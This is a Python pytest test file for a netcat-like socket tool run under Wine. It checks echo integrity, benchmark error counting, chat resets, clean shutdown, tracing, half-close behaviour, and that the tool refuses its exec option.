    """Lines from stdin: one byte more than the line is a failure too."""
    def handler(conn):
        conn.settimeout(10)
        conn.sendall(conn.recv(100))
        time.sleep(0.1)
        conn.sendall(b"x")
        time.sleep(3)
    port = fake_tcp_server(handler)
    r = win(wine, "echo", "127.0.0.1", port, input=b"only line\n")
    lines = r.stderr.decode().splitlines()
    assert r.returncode == 1, r
    assert len(lines) == 1 and "sent back more than it was sent" in lines[0], lines


def test_windows_echo_udp_fails_on_an_extra_byte(wine):
    """A datagram reply one byte longer than the request is a failure."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(30)

    def answer():
        try:
            data, client = server.recvfrom(100)
            server.sendto(data + b"!", client)
        except OSError:
            pass
    t = threading.Thread(target=answer, daemon=True)
    t.start()
    try:
        r = win(wine, "echo", "-u", "127.0.0.1", server.getsockname()[1], "word")
        t.join(5)
    finally:
        server.close()
    lines = r.stderr.decode().splitlines()
    assert r.returncode == 1, r
    assert len(lines) == 1 and "echoed 5 bytes for 4 sent" in lines[0], lines
    assert r.stdout == b""


@pytest.mark.parametrize("fault, size", [(swap_pairs, 3), (swap_pairs, 1), (swap_pairs, 64),
                                         (replay_one, 3), (add_a_byte, 3)],
                         ids=["swap-3", "swap-1", "swap-64", "replay-3", "extra-byte-3"])
def test_windows_bench_reports_wrong_echoes(wine, fault, size):
    """A server that returns the right bytes in the wrong order (messages
    swapped in pairs), or replays one, or adds a byte: sockit.exe bench
    counts mismatches and exits 1 with one line, even at -s 3, where a
    message has no room for a header (issue 10.10)."""
    port = fake_tcp_server(fault(size), connections=4)
    r = win(wine, "bench", "127.0.0.1", port, "-n", "200", "-c", "1", "-d", "4", "-s", str(size),
            "--timeout", "1", "--json")
    assert r.returncode == 1, r
    final = [json.loads(l) for l in r.stdout.decode().splitlines() if l.strip()][-1]
    assert final["type"] == "final", final
    assert final["errors"] > 0 and final["mismatches"] > 0, final
    assert r.stderr.decode().splitlines() == ["sockit bench: %d error%s" % (
        final["errors"], "" if final["errors"] == 1 else "s")], r.stderr


# -- 11: a chat member that resets is not called slow ----------------------------

@pytest.mark.parametrize("model", ["iocp", "select", "poll", "nonblock", "thread", "pool"])
def test_chat_member_that_resets_is_not_called_slow(winserve, model):
    """A member that resets its connection while others talk has left, it
    was not slow: with -q (warnings only) nothing is logged for it, and the
    others go on getting every line (issue 10.11)."""
    srv = winserve("chat", "-l", "127.0.0.1", "-p", "0", "-q", "-m", model)
    listener_sock, _, _ = chat_member(srv.port)
    talker, welcome, talker_peer = chat_member(srv.port)
    assert b"; 1 others here" in welcome, welcome
    listener = Collector(listener_sock)
    pad = b"." * 300
    sent = 0
    for _ in range(20):
        quitter, _, _ = chat_member(srv.port)
        for _ in range(5):
            talker.sendall(b"".join(b"t %06d %s\n" % (sent + j, pad) for j in range(50)))
            sent += 50
        quitter.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        quitter.close()  # a reset, with lines still on their way to it
    want = [b"t %06d %s" % (j, pad) for j in range(sent)]
    deadline = time.monotonic() + 30
    while len(listener.lines_from(talker_peer)) < sent and time.monotonic() < deadline:
        time.sleep(0.05)
    assert listener.lines_from(talker_peer) == want
    talker.close()
    listener_sock.shutdown(socket.SHUT_WR)
    listener.thread.join(10)
    listener_sock.close()
    assert not [l for l in srv.lines if "slow" in l or "warning" in l], srv.log()


# -- 12: Ctrl-C with connections open ---------------------------------------------

@pytest.mark.parametrize("model", WINDOWS_MODELS)
def test_ctrl_c_stops_cleanly_with_clients_connected(wine, model):
    """Ctrl-C (SIGINT under Wine) while one client is idle and, except on
    iterative (which serves one at a time), another has filled its
    connection and stopped reading, with no --idle-timeout: the server
    stops within seconds, exit 0, and says how many it served."""
    srv = Server(["echo", "-l", "127.0.0.1", "-p", "0", "-m", model], env=wine, command=WIN,
                 stop_signal=signal.SIGINT, ready_timeout=30)
    socks = []
    try:
        idle = connect("127.0.0.1", srv.port)
        socks.append(idle)
        idle.sendall(b"ctrl-c\n")
        assert recv_exact(idle, 7) == b"ctrl-c\n"
        if model != "iterative":
            stalled = small_receiver(srv.port)
            socks.append(stalled)
            fill_until_stalled(stalled, limit=15.0)
        rc = srv.stop(timeout=20)
    finally:
        srv.kill()
        for s in socks:
            s.close()
    assert rc == 0, "exit %s on Ctrl-C:\n%s" % (rc, srv.log())
    assert re.search(r"info: stopped: \d+ connections", srv.log()), srv.log()


def test_log_that_cannot_be_written_does_not_stop_the_server(winserve):
    """--log to a file that refuses every write (/dev/full: the disk is
    full): the writer gives up, and the server goes on echoing far more
    than the pipe to the writer holds (64 KiB) instead of blocking its
    connections on it, and stops cleanly (sk_msglog.h: a writer that died
    is ignored)."""
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "thread", "-q",
                   "--log", "/dev/full")
    for _ in range(8):
        payload = os.urandom(100000)
        with connect("127.0.0.1", srv.port, timeout=10) as s:
            threading.Thread(target=s.sendall, args=(payload,), daemon=True).start()
            assert recv_exact(s, len(payload)) == payload


@pytest.mark.parametrize("model, machinery", [
    ("iocp", "GetQueuedCompletionStatusEx"), ("select", "select"), ("thread", None)])
def test_trace_of_the_known_exchange(winserve, model, machinery):
    """--trace=json on Windows: the same events in order as on Linux (IOCP
    names its completions WSARecv/WSASend); SIO_TCP_INFO where the system
    has it, else the sample says it is not available."""
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", model, "--trace=json")
    with socket.create_connection(("127.0.0.1", srv.port), timeout=10) as s:
        own = "127.0.0.1:%d" % s.getsockname()[1]
        s.sendall(b"hello\n")
        got = b""
        while len(got) < 6:
            got += s.recv(100)
        s.shutdown(socket.SHUT_WR)
        assert s.recv(100) == b""
    wanted = [
        lambda e: e["call"] == "accept" and e.get("peer") == own,
        lambda e: e["call"] in ("recv", "WSARecv") and e["result"] == 6,
        lambda e: e["call"] in ("send", "WSASend") and e["result"] == 6,
        lambda e: e["call"] in ("recv", "WSARecv") and e["result"] == 0,
        lambda e: e["call"] == "close",
    ]
    deadline = time.monotonic() + 20
    while True:
        events = [json.loads(l) for l in srv.log().splitlines() if l.startswith("{")]
        i, found = 0, []
        for pred in wanted:
            while i < len(events) and not pred(events[i]):
                i += 1
            if i == len(events):
                break
            found.append(events[i])
            i += 1
        if len(found) == len(wanted):
            break
        assert time.monotonic() < deadline, srv.log()
        time.sleep(0.1)
    tcp = found[0]["tcp"]
    assert tcp.get("state") == "ESTABLISHED" or "not available" in tcp.get("unavailable", ""), tcp
    if machinery:
        assert machinery in {e["call"] for e in events}, events


# ---- connect and listen (the netcat) ----------------------------------------

def _reply_after_eof_server():
    """A server that reads to end of input, then replies with its size."""
    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen(1)
    ls.settimeout(60)
    got = {}

    def run():
        c, _ = ls.accept()
        c.settimeout(60)
        data = bytearray()
        while True:
            chunk = c.recv(65536)
            if not chunk:
                break
            data += chunk
        got["data"] = bytes(data)
        c.sendall(b"got %d bytes\n" % len(data))
        c.close()
        ls.close()
    t = threading.Thread(target=run, daemon=True)
    t.start()
    return ls.getsockname()[1], t, got


def test_connect_half_close_on_windows(wine):
    """End of input sends FIN; the reply that comes after it still arrives."""
    payload = os.urandom(1 << 20)
    port, t, got = _reply_after_eof_server()
    r = win(wine, "connect", "127.0.0.1", port, input=payload)
    t.join(60)
    assert r.returncode == 0, r.stderr
    assert got["data"] == payload
    assert r.stdout == b"got %d bytes\n" % len(payload)


def test_listen_half_close_on_windows(wine, tmp_path):
    # The reply comes from a file: Wine ends a process whose standard input
    # pipe fills up before the program first reads it (sockit serve too).
    reply = os.urandom(100000)
    (tmp_path / "reply").write_bytes(reply)
    p = subprocess.Popen(WIN + ["listen", "-v", "-l", "127.0.0.1", "-p", "0"], env=wine,
                         stdin=open(tmp_path / "reply", "rb"), stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE)
    try:
        port = None
        while port is None:
            line = p.stderr.readline().decode()
            assert line, "listen exited before listening"
            m = re.search(r"listening on 127\.0\.0\.1 port (\d+) \(tcp\)", line)
            if m:
                port = int(m.group(1))
        c = socket.create_connection(("127.0.0.1", port), timeout=60)
        c.sendall(b"from linux\n")
        c.shutdown(socket.SHUT_WR)
        back = bytearray()
        while True:
            chunk = c.recv(65536)
            if not chunk:
                break
            back += chunk
        c.close()
        out = p.stdout.read()
        assert p.wait(60) == 0
    finally:
        if p.poll() is None:
            p.kill()
    assert out == b"from linux\n"
    assert bytes(back) == reply


def test_exec_is_refused_in_one_line_on_windows(wine):
    r = win(wine, "connect", "--sh-exec", "cat", "127.0.0.1", 1, input=b"")
    # Refused before or after connecting: one line, exit 1, either way.
    assert r.returncode == 1
    assert len(r.stderr.decode().splitlines()) == 1, r.stderr


def test_learn_md_chapters_that_hold_on_windows_hold_under_wine(wine):
    """docs/LEARN.md's Windows chapters, run with sockit.exe: every command
    the guide shows for them prints what its text says (learn.py
    --windows checks each claim and that the commands are the guide's)."""
    root = os.path.join(HERE, "..", "..")
    p = subprocess.run([sys.executable, os.path.join(root, "scripts", "learn.py"),
                        "--windows", SOCKIT_WIN],
                       env=dict(wine, SOCKIT=SOCKIT), stdout=subprocess.PIPE,
                       stderr=subprocess.STDOUT, timeout=300)
    out = p.stdout.decode("utf-8", "replace")
    assert p.returncode == 0, out
    for chapter in ("byte_order", "name_lookup", "tcp_echo", "exact_reads", "half_close"):
        assert re.search(r"^learn: %s\s+[\d.]+ s$" % chapter, out, re.M), out
